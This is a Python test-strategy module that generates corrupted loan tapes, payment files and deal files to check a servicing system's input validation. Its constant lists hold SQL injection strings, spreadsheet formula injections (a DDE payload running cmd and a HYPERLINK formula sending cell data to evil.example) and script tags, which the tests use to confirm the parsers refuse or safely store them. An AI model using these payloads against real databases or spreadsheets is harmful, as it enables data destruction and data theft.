"""Malformed input files: a valid loan tape, payment file or deal file, then one or more corruptions.

Each strategy draws a file that would be accepted, applies corruptions to it
and returns a `Case`: the bytes, the corruption kinds applied, and what the
service must answer. A corruption that makes the file wrong adds a `Claim` (the
line, or the deal file's key, and a word the problem must contain); a
corruption that leaves the file meaning the same (a BOM, CRLF or CR line
endings) adds none; an injection string in a free-text field that is only
data (an apostrophe, `<script>`) is expected stored byte for byte.

Precedence follows the parsers: a file that cannot be decoded reports only
that; a wrong header reports only the header; otherwise every bad row is
reported, up to a row the csv module cannot read at all (the rest of the file
is not read). `Case.expected_claims` applies it.
"""
from __future__ import annotations

import copy
import csv
import io
import json
from dataclasses import dataclass, field

from hypothesis import strategies as st

from servicing.domain.payment_file import PAYMENT_COLUMNS
from servicing.domain.loan_tape import TAPE_COLUMNS
from tests.integration.servicing.tapes import SEED_ROW
from tests.integration.trusts.deals import seed_deal

# Levels of a claim, in the order the parsers stop at them.
FILE, HEADER, ROW, BOOKS = 0, 1, 2, 3
BAD_BYTE_MARK = "\ue000"  # replaced by invalid UTF-8 bytes once the file is encoded

SQL_INJECTIONS = ("'; DROP TABLE ledger_event;--", "L1' OR '1'='1", "1; DELETE FROM servicing_loan")
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "=1+1")
# Stored as given: names may hold apostrophes and angle brackets; SQL is parameterized, HTML escaped.
INERT_TEXTS = ("Robert'); DROP TABLE servicing_loan;--", "<script>alert('x')</script>", "O'Brien \"Bob\", Jr.",
               "Zoë Ñandú 北京")
CONTROL_CHARS = ("\x00", "\x07", "\x08", "\x1b", "\x7f", "\x0b", "\x1f")
HUGE_NUMBERS = ("1e28", "1" + "0" * 30, "9" * 400, "1e999999999", "1E+400", str(10**400), "-1e999999999")
NEGATIVES = ("-100000.00", "-0.01", "-1e5", "-5")
# Amounts Decimal() (or a comma-stripping parser) would take: "599,55" was posted as 59,955.00.
MALFORMED_AMOUNTS = ("599,55", "1,0,0.00", "5.9955E+02", "12,34.00", ",5", "1,,000.00", "1 000.00", "+5.00",
                     "\u0665.00", "Infinity", "1.234,56", "0x10")
# More decimals than are kept: a fraction of a cent, or a rate past the 4 places its column keeps.
EXTRA_MONEY_DECIMALS = ("100.001", "100.000", "0.0001")
EXTRA_RATE_DECIMALS = ("6.12345", "6.00001", "0.00005")
BAD_DATES = ("0000-00-00", "9999-12-31", "2026-02-30", "1900-01-01", "2026-13-01", "2026/02/01", "01/02/2026",
             "2026-02-01T00:00")


@dataclass(frozen=True)
class Claim:
    """What the refusal must say: a problem at `where` (a line, or a deal key) containing `word`."""

    level: int
    where: int | str
    word: str


@dataclass
class Case:
    """A generated file and what the service must answer."""

    kind: str  # "loan tape", "payment file", "deal file"
    raw: bytes = b""
    corruptions: list[str] = field(default_factory=list)
    claims: list[Claim] = field(default_factory=list)
    verbatim: list[tuple[str, str]] = field(default_factory=list)  # (key, text) stored as given
    rows: list[dict] = field(default_factory=list)  # the rows (or the deal) as they should be recorded
    unread_after: int | None = None  # a line the csv module cannot read: later lines are not reported

    @property
    def refused(self) -> bool:
        return bool(self.claims)

    def expected_claims(self) -> tuple[list[Claim], bool]:
        """The claims the parser reaches, and whether all of them must be met (else any one).

        Only the first level that has any is reached, and no line the csv module
        never read. A file that cannot be decoded fails once, at its first bad
        byte: any one of its decoding claims is met. A payment file's rows are
        checked against the books together with their own problems; a deal is
        checked against the books together with their own problems (a loan not
        boarded is named beside a bad face), the rest of a deal only when the
        file itself is clean.
        """
        if not self.claims:
            return [], True
        first = min(c.level for c in self.claims)
        # A payment file's rows, and a deal file's loans, are checked against the books with the rest.
        books_with_rows = self.kind in ("payment file", "deal file")
        if first == ROW and books_with_rows:
            reached = [c for c in self.claims if c.level >= ROW]
        else:
            reached = [c for c in self.claims if c.level == first]
        if self.unread_after is not None and first >= ROW:
            reached = [c for c in reached if not isinstance(c.where, int) or c.where <= self.unread_after]
        return reached, first != FILE


# --- CSV files (loan tapes and payment files) ------------------------------------------------------------


def _first_claim(parts: set, part: str) -> bool:
    """True, and `part` taken, if no corruption has taken it yet."""
    if part in parts:
        return False
    parts.add(part)
    return True


@dataclass
class CsvDraft:
    """A CSV file being corrupted: header, rows (lists of text), and how it will be written."""

    columns: list[str]
    rows: list[list[str]]
    case: Case
    text_columns: tuple[str, ...]  # free text (names, addresses, references)
    money_columns: tuple[str, ...]
    date_columns: tuple[str, ...]
    rate_columns: tuple[str, ...] = ()  # percentages kept with 4 decimals
    id_column: str = "loan_number"
    line_ending: str = "\n"
    bom: bool = False
    encoding: str = "utf-8"
    bad_bytes: bytes | None = None
    untouched: list[int] = field(default_factory=list)  # rows no corruption has used yet
    final_newline: bool = True
    parts: set = field(default_factory=set)
    edited: set = field(default_factory=set)  # columns another corruption wrote into: never dropped

    def line(self, row: int) -> int:
        return row + 2  # the header is line 1

    def take_row(self, draw) -> int | None:
        if not self.untouched:
            return None
        row = draw(st.sampled_from(self.untouched))
        self.untouched.remove(row)
        return row

    def set(self, row: int, column: str, value: str) -> None:
        if column in self.columns:
            self.rows[row][self.columns.index(column)] = value
            self.edited.add(column)

    def get(self, row: int, column: str) -> str:
        # A dropped column reads as empty: the header's problem is then the one reported.
        return self.rows[row][self.columns.index(column)] if column in self.columns else ""

    def reserve(self, part: str) -> bool:
        """One corruption per part ("decode", "header"), so none hides another's problem."""
        return _first_claim(self.parts, part)

    def state(self):
        return (copy.deepcopy(self.columns), copy.deepcopy(self.rows), len(self.case.claims),
                len(self.case.verbatim), self.encoding, self.line_ending, self.bom, self.bad_bytes, self.final_newline)

    def claim(self, level: int, row_or_line, word: str, *, is_line: bool = False) -> None:
        where = row_or_line if is_line or level < ROW else self.line(row_or_line)
        self.case.claims.append(Claim(level, where, word.lower()))

    def encode(self) -> bytes:
        out = io.StringIO()
        writer = csv.writer(out, lineterminator=self.line_ending)
        writer.writerow(self.columns)
        writer.writerows(self.rows)
        text = out.getvalue()
        if not self.final_newline:
            text = text.rstrip("\r\n")
        # A BOM is UTF-8's here; UTF-16 writes its own. Characters the encoding lacks become "?".
        text = ("\ufeff" if self.bom and self.encoding == "utf-8" else "") + text
        raw = text.encode(self.encoding, errors="replace")
        if self.bad_bytes is not None:
            raw = raw.replace(BAD_BYTE_MARK.encode(self.encoding), self.bad_bytes)
        return raw


def _wrong_columns(draw, d: CsvDraft) -> None:
    if not d.reserve("header"):
        return
    how = draw(st.sampled_from(("drop", "rename", "extra", "twice", "reorder and rename")))
    droppable = [k for k, column in enumerate(d.columns) if column not in d.edited]
    if how == "drop" and not droppable:
        how = "extra"  # dropping a column another corruption wrote into would take its problem away
    i = draw(st.sampled_from(droppable)) if how == "drop" else draw(st.integers(0, len(d.columns) - 1))
    name = d.columns[i]
    if how == "drop":
        del d.columns[i]
        for row in d.rows:
            del row[i:i + 1]
        d.claim(HEADER, 1, f"missing columns {name}" if i == 0 else name)
    elif how in ("rename", "reorder and rename"):
        # Only spellings that differ: "amount" with its underscores replaced is still "amount".
        d.columns[i] = draw(st.sampled_from(tuple(dict.fromkeys(
            n for n in (name + "s", name.upper(), name.replace("_", " "), "") if n != name))))
        if how == "reorder and rename":
            d.columns.reverse()
            for row in d.rows:
                row.reverse()
        d.claim(HEADER, 1, name)
    elif how == "extra":
        d.columns.insert(i, "comments")
        for row in d.rows:
            row.insert(i, "x")
        d.claim(HEADER, 1, "unknown columns comments")
    else:
        d.columns.append(name)
        for row in d.rows:
            row.append(row[i] if i < len(row) else "")
        d.claim(HEADER, 1, f"{name} appear twice")


def _encoding(draw, d: CsvDraft) -> None:
    how = draw(st.sampled_from(("latin-1", "utf-16", "utf-16-le", "invalid utf-8", "mixed", "nul byte")))
    if how != "nul byte" and not d.reserve("decode" if how != "utf-16-le" else "header"):
        return
    if how in ("latin-1", "mixed"):
        row = d.take_row(draw)
        if row is None:
            return
        column = draw(st.sampled_from(d.text_columns))
        d.set(row, column, "José Ñandú")
        if how == "mixed":
            # One row's é as UTF-8 and another's as Latin-1: the file is refused at the Latin-1 one.
            d.bad_bytes = "é".encode("latin-1")
            d.set(row, column, f"Jos{BAD_BYTE_MARK}")
        else:
            d.encoding = "latin-1"
        d.claim(FILE, d.line(row), "not utf-8", is_line=True)
    elif how == "utf-16":
        d.encoding = "utf-16"
        d.claim(FILE, 1, "utf-16")
    elif how == "utf-16-le":
        # No BOM: every other byte of the header is NUL, which the reader names before decoding.
        d.encoding = "utf-16-le"
        d.claim(FILE, 1, "utf-16 without a bom")
    elif how == "invalid utf-8":
        row = d.take_row(draw)
        if row is None:
            return
        column = draw(st.sampled_from(d.columns))
        d.set(row, column, d.get(row, column) + BAD_BYTE_MARK)
        d.bad_bytes = draw(st.sampled_from((b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\x80", b"\xf8\x88\x80\x80")))
        d.claim(FILE, d.line(row), "not utf-8", is_line=True)
    else:
        row = d.take_row(draw)
        if row is None:
            return
        column = draw(st.sampled_from(d.columns))
        d.set(row, column, d.get(row, column) + "\x00")
        d.claim(ROW, row, column)


def _money_set_to(values: tuple[str, ...]):
    """A corruption writing one of `values` into a money column of one row."""
    def corrupt(draw, d: CsvDraft) -> None:
        row = d.take_row(draw)
        if row is None:
            return
        column = draw(st.sampled_from(d.money_columns))
        d.set(row, column, draw(st.sampled_from(values)))
        d.claim(ROW, row, column)
    return corrupt


_huge_number = _money_set_to(HUGE_NUMBERS)
_negative = _money_set_to(NEGATIVES)
_malformed_amount = _money_set_to(MALFORMED_AMOUNTS)


def _extra_decimals(draw, d: CsvDraft) -> None:
    """More decimals than kept, in a money or a rate column: refused naming the column, never rounded."""
    row = d.take_row(draw)
    if row is None:
        return
    column = draw(st.sampled_from(d.rate_columns + d.money_columns))
    d.set(row, column, draw(st.sampled_from(EXTRA_RATE_DECIMALS if column in d.rate_columns
                                            else EXTRA_MONEY_DECIMALS)))
    d.claim(ROW, row, column)


def _bad_date(draw, d: CsvDraft) -> None:
    row = d.take_row(draw)
    if row is None:
        return
    column = draw(st.sampled_from(d.date_columns))
    d.set(row, column, draw(st.sampled_from(BAD_DATES)))
    # A payment received in 1900 is an ISO date the file accepts; the books refuse it (before boarding).
    word = "boarded" if d.case.kind == "payment file" and d.get(row, column) == "1900-01-01" else column
    d.claim(BOOKS if word == "boarded" else ROW, row, word)


def _duplicate(draw, d: CsvDraft) -> None:
    if len(d.untouched) < 2:
        return
    first, second = sorted(draw(st.lists(st.sampled_from(d.untouched), min_size=2, max_size=2, unique=True)))
    d.untouched.remove(first)
    d.untouched.remove(second)
    d.set(second, d.id_column, d.get(first, d.id_column))
    d.claim(ROW, second, "twice")


def _id_injection(draw, d: CsvDraft) -> None:
    row = d.take_row(draw)
    if row is None:
        return
    d.set(row, "loan_number", draw(st.sampled_from(SQL_INJECTIONS + FORMULAS + ("<script>", "L 001", "x" * 41))))
    d.claim(ROW, row, "loan_number")


def _formula(draw, d: CsvDraft) -> None:
    row = d.take_row(draw)
    if row is None:
        return
    column = draw(st.sampled_from(d.text_columns))
    d.set(row, column, draw(st.sampled_from(FORMULAS)))
    d.claim(ROW, row, column)


def _inert_text(draw, d: CsvDraft) -> None:
    row = d.take_row(draw)
    if row is None:
        return
    column = draw(st.sampled_from(d.text_columns))
    text = draw(st.sampled_from(INERT_TEXTS)) + (f" {row}" if column == "reference" else "")
    d.set(row, column, text)
    d.case.verbatim.append((d.get(row, d.id_column) if column != "reference" else text, text))


def _control(draw, d: CsvDraft) -> None:
    row = d.take_row(draw)
    if row is None:
        return
    column = draw(st.sampled_from(d.text_columns + (d.id_column,)))
    value = d.get(row, column) or "v"
    # Not first: a leading vertical tab or \x1f is whitespace to str.strip() and is rightly trimmed.
    at = draw(st.integers(1, len(value)))
    d.set(row, column, value[:at] + draw(st.sampled_from(CONTROL_CHARS)) + value[at:] + "x")
    d.claim(ROW, row, column)


def _long(draw, d: CsvDraft) -> None:
    row = d.take_row(draw)
    if row is None:
        return
    column = draw(st.sampled_from(d.text_columns))
    if draw(st.booleans()):
        d.set(row, column, "y" * draw(st.integers(201, 5000)))
        d.claim(ROW, row, column)
    else:
        # Past the csv module's field limit: it cannot read on, so nothing after this row is reported.
        d.set(row, column, "z" * 200_000)
        d.claim(ROW, row, "not readable csv")
        line = d.line(row)
        d.case.unread_after = line if d.case.unread_after is None else min(line, d.case.unread_after)


def _many_columns(draw, d: CsvDraft) -> None:
    if not d.reserve("header"):
        return
    count = draw(st.sampled_from((50, 1000, 20_000)))
    d.columns.extend(f"c{i}" for i in range(count))
    for row in d.rows:
        row.extend("" for _ in range(count))
    d.claim(HEADER, 1, "unknown columns")


def _line_endings(draw, d: CsvDraft) -> None:
    d.line_ending = draw(st.sampled_from(("\r\n", "\r")))
    d.bom = draw(st.booleans())


def _truncated(draw, d: CsvDraft) -> None:
    last = len(d.rows) - 1
    if last not in d.untouched:
        return
    d.untouched.remove(last)
    keep = draw(st.integers(0, len(d.columns) - 2))
    row = d.rows[last]
    cut = row[keep][: draw(st.integers(1 if keep == 0 else 0, max(1, len(row[keep]))))]
    d.rows[last] = row[:keep] + [cut]
    d.final_newline = False
    d.claim(ROW, last, "fewer fields")


def _unknown_loan(draw, d: CsvDraft) -> None:
    row = d.take_row(draw)
    if row is None:
        return
    d.set(row, "loan_number", "L999")
    d.claim(BOOKS, row, "not boarded")


CSV_CORRUPTIONS = {
    "wrong columns": _wrong_columns, "encoding": _encoding, "huge number": _huge_number,
    "negative amount": _negative, "date out of range": _bad_date, "duplicate": _duplicate,
    "identifier injection": _id_injection, "formula injection": _formula, "inert injection text": _inert_text,
    "control characters": _control, "very long string": _long, "huge number of columns": _many_columns,
    "line endings and BOM": _line_endings, "truncated last line": _truncated,
    "malformed amount": _malformed_amount, "too many decimals": _extra_decimals,
}
# Corruptions that replace the whole file: drawn alone (with at most the line endings).
WHOLE_FILE = ("empty file", "only a header")


def tape_rows(draw) -> list[dict]:
    count = draw(st.integers(3, 8))
    return [{
        **SEED_ROW, "loan_number": f"T{i:03d}", "borrower_name": f"Borrower {i}",
        "original_balance": f"{draw(st.integers(50_000, 900_000))}.00",
        "note_rate": draw(st.sampled_from(("4.5", "6", "6.125", "7.25"))),
        "term_months": draw(st.sampled_from(("180", "360"))),
        "autopay": draw(st.sampled_from(("true", "false"))),
    } for i in range(1, count + 1)]


def payment_rows(draw, loans: int) -> list[dict]:
    count = draw(st.integers(3, 8))
    return [{
        "loan_number": f"L{draw(st.integers(1, loans)):03d}", "received_on": f"2026-02-{draw(st.integers(1, 20)):02d}",
        "amount": f"{draw(st.integers(1, 900))}.{draw(st.integers(0, 99)):02d}", "reference": f"BANK-{i}",
    } for i in range(1, count + 1)]


def _csv_case(draw, kind: str, rows: list[dict], draft_args: dict, corruptions: dict, names=None) -> Case:
    columns = list(draft_args.pop("columns"))
    case = Case(kind=kind, rows=rows)
    d = CsvDraft(columns=columns, rows=[[r[c] for c in columns] for r in rows], case=case,
                 untouched=list(range(len(rows))), **draft_args)
    whole = next((n for n in names if n in WHOLE_FILE), None) if names else draw(
        st.sampled_from((None,) * 8 + WHOLE_FILE))
    if whole == "empty file":
        case.corruptions.append(whole)
        case.claims.append(Claim(FILE, 1, "empty"))
        case.raw = draw(st.sampled_from((b"", b"\n", b"\r\n", b"\xef\xbb\xbf", b"   ")))
        return case
    if whole == "only a header":
        case.corruptions.append(whole)
        d.rows, d.untouched = [], []
        d.claim(ROW, 1, "has no", is_line=True)
        if draw(st.booleans()):
            _line_endings(draw, d)
            case.corruptions.append("line endings and BOM")
        case.raw = d.encode()
        return case
    names = names or draw(st.lists(st.sampled_from(sorted(corruptions)), min_size=1, max_size=3))
    for name in names:
        before = d.state()
        corruptions[name](draw, d)
        if d.state() != before:  # a corruption with no row left to use did nothing
            case.corruptions.append(name)
    case.rows = [dict(zip(d.columns, row)) for row in d.rows]  # what an accepted file must record
    case.raw = d.encode()
    return case


@st.composite
def malformed_tapes(draw, names=None) -> Case:
    """A valid loan tape of 3-8 new loans, then 1-3 corruptions (or one that replaces the whole file)."""
    return _csv_case(draw, "loan tape", tape_rows(draw), names=names, draft_args={
        "columns": TAPE_COLUMNS, "text_columns": ("borrower_name", "property_address"),
        "money_columns": ("property_value", "original_balance", "current_balance", "escrow_monthly"),
        "date_columns": ("first_payment_date", "next_due_date"), "rate_columns": ("note_rate", "servicing_fee_rate"),
    }, corruptions=CSV_CORRUPTIONS)


PAYMENT_CORRUPTIONS = {**CSV_CORRUPTIONS, "unknown loan": _unknown_loan}


@st.composite
def malformed_payment_files(draw, loans: int = 3, names=None) -> Case:
    """A valid payment file to the boarded loans L001..L00n, then 1-3 corruptions."""
    return _csv_case(draw, "payment file", payment_rows(draw, loans), names=names, draft_args={
        "columns": PAYMENT_COLUMNS, "text_columns": ("reference",), "money_columns": ("amount",),
        "date_columns": ("received_on",), "id_column": "reference",
    }, corruptions=PAYMENT_CORRUPTIONS)


# --- Deal files --------------------------------------------------------------------------------------------


@dataclass
class DealDraft:
    deal: dict
    case: Case
    indent: int | None = None
    line_ending: str = "\n"
    bom: bool = False
    encoding: str = "utf-8"
    ensure_ascii: bool = True
    raw_edit: str | None = None  # a byte-level corruption applied after encoding
    used: set = field(default_factory=set)  # parts of the deal a corruption has changed

    def claim(self, level: int, where: str, word: str = "") -> None:
        self.case.claims.append(Claim(level, where, word.lower()))

    def take(self, part: str) -> bool:
        """Reserve a part of the deal for one corruption, so two never hide each other's problem."""
        return _first_claim(self.used, part)

    def state(self):
        return (len(self.used), len(self.case.claims), len(self.case.verbatim), self.raw_edit, self.encoding,
                self.indent, self.line_ending, self.bom)

    def encode(self) -> bytes:
        text = json.dumps(self.deal, indent=self.indent, ensure_ascii=self.ensure_ascii)
        if self.line_ending != "\n":
            text = text.replace("\n", self.line_ending)
        raw = (("\ufeff" if self.bom and self.encoding == "utf-8" else "") + text).encode(self.encoding, errors="replace")
        if self.raw_edit == "truncated":
            raw = raw[: len(raw) // 2]
        elif self.raw_edit == "invalid utf-8":
            raw = raw.replace(b"XYZ Mortgage", b"XYZ \xff Mortgage", 1)
        elif self.raw_edit == "raw nul":
            raw = raw.replace(b"XYZ Mortgage", b"XYZ \x00 Mortgage", 1)
        elif self.raw_edit == "duplicate key":
            raw = raw.replace(b'"code": ', b'"code": "DUP-1", "code": ', 1)
        elif self.raw_edit == "digits":
            # json.dumps itself refuses to write an integer of 5,000 digits.
            raw = raw.replace(b'"payment_day": 25', b'"payment_day": ' + b"9" * 5000, 1)
        return raw


NOT_JSON = "not valid utf-8 json"
SCALAR_KEYS = ("code", "name", "issuer", "servicer", "trustee", "closing_date", "cutoff_date",
               "first_payment_date", "residual_holder")


def _deal_wrong_keys(draw, d: DealDraft) -> None:
    how = draw(st.sampled_from(("drop", "misspell", "extra", "class key")))
    if how == "class key":
        if d.take("classes[0]"):
            d.deal["classes"][0]["coupn"] = "5"
            d.claim(ROW, "classes[0]", "unknown keys 'coupn'")
        return
    key = draw(st.sampled_from(SCALAR_KEYS))
    if not d.take(key) or (how != "drop" and not d.take("deal")):
        return
    if how == "drop":
        del d.deal[key]
        d.claim(ROW, key)
    elif how == "misspell":
        d.deal[key + "_"] = d.deal.pop(key)
        d.claim(ROW, key)
        d.claim(ROW, "deal", "unknown keys")
    else:
        d.deal["payment_dya"] = 10
        d.claim(ROW, "deal", "unknown keys 'payment_dya'")


def _deal_encoding(draw, d: DealDraft) -> None:
    how = draw(st.sampled_from(("latin-1", "utf-16", "invalid utf-8", "raw nul", "escaped nul", "lone surrogate")))
    if how in ("latin-1", "utf-16", "invalid utf-8", "raw nul"):
        if d.raw_edit or not d.take("name"):
            return
        if how == "latin-1":
            d.deal["name"] = "XYZ Mortgage Trust Société"
            d.ensure_ascii, d.encoding = False, "latin-1"
        elif how == "utf-16":
            d.encoding = "utf-16"
        else:
            d.raw_edit = how
        d.claim(FILE, "the deal file", NOT_JSON)
    elif d.take("name"):
        d.deal["name"] = "XYZ \x00 Trust" if how == "escaped nul" else "XYZ \ud800 Trust"
        d.claim(ROW, "name", "control character")


def _deal_huge_number(draw, d: DealDraft) -> None:
    how = draw(st.sampled_from(("class face", "holder face", "payment_day", "digits")))
    if how == "class face" and d.take("classes[0]"):
        d.deal["classes"][0]["face"] = draw(st.sampled_from(HUGE_NUMBERS))
        d.claim(ROW, "class A face")
    elif how == "holder face" and d.take("holders[0]"):
        d.deal["holders"][0]["face"] = draw(st.sampled_from(HUGE_NUMBERS))
        d.claim(ROW, "holders[0]")
    elif how == "payment_day" and d.take("payment_day"):
        d.deal["payment_day"] = 10**400
        d.claim(ROW, "payment_day")
    elif how == "digits" and not d.raw_edit and d.take("payment_day"):
        d.raw_edit = "digits"  # json.loads refuses integers of more than 4,300 digits
        d.claim(FILE, "the deal file", NOT_JSON)


def _deal_negative(draw, d: DealDraft) -> None:
    how = draw(st.sampled_from(("class face", "holder face", "priority", "spread", "payment_day")))
    value = draw(st.sampled_from(NEGATIVES))
    if how == "class face" and d.take("classes[0]"):
        d.deal["classes"][0]["face"] = value
        d.claim(ROW, "class A face")
    elif how == "holder face" and d.take("holders[0]"):
        d.deal["holders"][0]["face"] = value
        d.claim(ROW, "holders[0]")
    elif how == "priority" and d.take("classes[0]"):
        d.deal["classes"][0]["priority"] = -1
        d.claim(ROW, "class A", "priority")
    elif how == "spread" and d.take("issuer_spread_rate"):
        d.deal["issuer_spread_rate"] = value
        d.claim(ROW, "issuer_spread_rate")
    elif how == "payment_day" and d.take("payment_day"):
        d.deal["payment_day"] = -5
        d.claim(ROW, "payment_day")


def _deal_date(draw, d: DealDraft) -> None:
    key = draw(st.sampled_from(("closing_date", "cutoff_date", "first_payment_date")))
    if d.take(key) and d.take("dates"):
        d.deal[key] = draw(st.sampled_from(BAD_DATES + ("", None, 20260101)))
        d.claim(ROW, key)


def _deal_duplicate(draw, d: DealDraft) -> None:
    how = draw(st.sampled_from(("class", "loan", "json key")))
    if how == "class" and d.take("classes[1]"):
        d.deal["classes"].append(copy.deepcopy(d.deal["classes"][0]))
        d.claim(ROW, "classes[1]", "twice")
    elif how == "loan" and d.take("loans"):
        d.deal["loans"].append(d.deal["loans"][0])
        d.claim(ROW, "loans", "twice")
    elif how == "json key" and not d.raw_edit and d.take("code"):
        d.raw_edit = "duplicate key"
        d.claim(FILE, "the deal file", "appears twice")


def _deal_id_injection(draw, d: DealDraft) -> None:
    value = draw(st.sampled_from(SQL_INJECTIONS + FORMULAS + ("<script>",)))
    how = draw(st.sampled_from(("code", "loan", "holder code", "class name")))
    if how == "code" and d.take("code"):
        d.deal["code"] = value
        d.claim(ROW, "code")
    elif how == "loan" and d.take("loans"):
        d.deal["loans"][0] = value
        d.claim(ROW, "loans[0]")
    elif how == "holder code" and d.take("holders[0]"):
        d.deal["holders"][0]["code"] = value
        d.claim(ROW, "holders[0]", "code")
    elif how == "class name" and d.take("classes[0]") and d.take("holders[0]"):
        d.deal["classes"][0]["name"] = value
        d.claim(ROW, "classes[0]", "name")


def _deal_formula(draw, d: DealDraft) -> None:
    key = draw(st.sampled_from(("name", "issuer", "servicer", "trustee", "residual_holder", "holder name")))
    value = draw(st.sampled_from(FORMULAS))
    if key == "holder name":
        if d.take("holders[0]"):
            d.deal["holders"][0]["name"] = value
            d.claim(ROW, "holders[0]", "formula")
    elif d.take(key):
        d.deal[key] = value
        d.claim(ROW, key, "formula")


def _deal_inert(draw, d: DealDraft) -> None:
    key = draw(st.sampled_from(("name", "issuer", "trustee")))
    if d.take(key):
        d.deal[key] = draw(st.sampled_from(INERT_TEXTS))
        d.case.verbatim.append((key, d.deal[key]))


def _deal_control(draw, d: DealDraft) -> None:
    key = draw(st.sampled_from(("name", "issuer", "holder name")))
    char = draw(st.sampled_from(CONTROL_CHARS + ("\n", "\r", "\ufeff")))
    if key == "holder name":
        if d.take("holders[0]"):
            d.deal["holders"][0]["name"] = f"First{char}Investor"
            d.claim(ROW, "holders[0]", "control character")
    elif d.take(key):
        d.deal[key] = f"XYZ{char}Trust"
        d.claim(ROW, key, "control character")


def _deal_long(draw, d: DealDraft) -> None:
    key = draw(st.sampled_from(("name", "issuer", "code")))
    if d.take(key):
        d.deal[key] = "w" * draw(st.sampled_from((201, 5000, 1_000_000)))
        d.claim(ROW, key)


def _deal_many_keys(draw, d: DealDraft) -> None:
    if d.take("deal"):
        d.deal.update({f"k{i}": i for i in range(draw(st.sampled_from((50, 1000, 20_000))))})
        d.claim(ROW, "deal", "unknown keys")


def _deal_layout(draw, d: DealDraft) -> None:
    d.indent = draw(st.sampled_from((None, 0, 2)))
    d.line_ending = draw(st.sampled_from(("\n", "\r\n", "\r")))
    d.bom = draw(st.booleans())


def _deal_truncated(draw, d: DealDraft) -> None:
    if not d.raw_edit and d.encoding == "utf-8":
        d.raw_edit = "truncated"
        d.claim(FILE, "the deal file", NOT_JSON)


def _deal_malformed_amount(draw, d: DealDraft) -> None:
    how = draw(st.sampled_from(("class face", "holder face", "denomination")))
    value = draw(st.sampled_from(MALFORMED_AMOUNTS))
    if how == "class face" and d.take("classes[0]"):
        d.deal["classes"][0]["face"] = value
        d.claim(ROW, "class A face")
    elif how == "holder face" and d.take("holders[0]"):
        d.deal["holders"][0]["face"] = value
        d.claim(ROW, "holders[0]")
    elif how == "denomination" and d.take("classes[0]"):
        d.deal["classes"][0]["denomination"] = value
        d.claim(ROW, "class A denomination")


def _deal_extra_decimals(draw, d: DealDraft) -> None:
    """A rate with more decimals than its column keeps (4): refused, where the row rounded it silently."""
    how = draw(st.sampled_from(("issuer_spread_rate", "purchase_price_percent", "coupon", "face")))
    if how == "coupon" and d.take("classes[0]"):
        d.deal["classes"][0]["coupon"] = draw(st.sampled_from(EXTRA_RATE_DECIMALS))
        d.claim(ROW, "class A coupon", "4 decimals")
    elif how == "face" and d.take("classes[0]"):
        d.deal["classes"][0]["face"] = "1000000.001"
        d.claim(ROW, "class A face", "fractions of a cent")
    elif how in ("issuer_spread_rate", "purchase_price_percent") and d.take(how):
        d.deal[how] = "0.60001" if how == "issuer_spread_rate" else "98.50005"
        d.claim(ROW, how, "4 decimals")


def _deal_string_boolean(draw, d: DealDraft) -> None:
    """overcollateralized as anything but JSON true/false: bool("false") is True."""
    if d.take("overcollateralized"):
        d.deal["overcollateralized"] = draw(st.sampled_from(("false", "true", 0, 1, "no", None, [])))
        d.claim(ROW, "overcollateralized", "true or false")


def _deal_unknown_loan(draw, d: DealDraft) -> None:
    if d.take("loans"):
        d.deal["loans"][-1] = "L999"
        d.claim(BOOKS, "loans", "not boarded")


DEAL_CORRUPTIONS = {
    "wrong columns": _deal_wrong_keys, "encoding": _deal_encoding, "huge number": _deal_huge_number,
    "negative amount": _deal_negative, "date out of range": _deal_date, "duplicate": _deal_duplicate,
    "identifier injection": _deal_id_injection, "formula injection": _deal_formula,
    "inert injection text": _deal_inert, "control characters": _deal_control, "very long string": _deal_long,
    "huge number of columns": _deal_many_keys, "line endings and BOM": _deal_layout,
    "truncated last line": _deal_truncated, "unknown loan": _deal_unknown_loan,
    "malformed amount": _deal_malformed_amount, "too many decimals": _deal_extra_decimals,
    "string boolean": _deal_string_boolean,
}


@st.composite
def malformed_deals(draw, names=None) -> Case:
    """The seed's pass-through deal (L001..L010, ten holders), then 1-3 corruptions (or a whole-file one)."""
    case = Case(kind="deal file")
    d = DealDraft(deal=seed_deal(code="MAL-1"), case=case)
    whole = next((n for n in names if n in WHOLE_FILE + ("deep nesting",)), None) if names else draw(
        st.sampled_from((None,) * 8 + WHOLE_FILE + ("deep nesting",)))
    if whole:
        case.corruptions.append(whole)
        if whole == "only a header":
            d.deal = {}
            d.claim(ROW, "code")
            d.claim(ROW, "classes")
            case.raw = d.encode()
        else:
            case.raw = b"" if whole == "empty file" else b"[" * 100_000 + b"]" * 100_000
            d.claim(FILE, "the deal file", NOT_JSON)
        return case
    for name in names or draw(st.lists(st.sampled_from(sorted(DEAL_CORRUPTIONS)), min_size=1, max_size=3)):
        before = d.state()
        DEAL_CORRUPTIONS[name](draw, d)
        if d.state() != before:  # a corruption whose part of the deal was taken did nothing
            case.corruptions.append(name)
    case.rows = [d.deal]
    case.raw = d.encode()
    return case
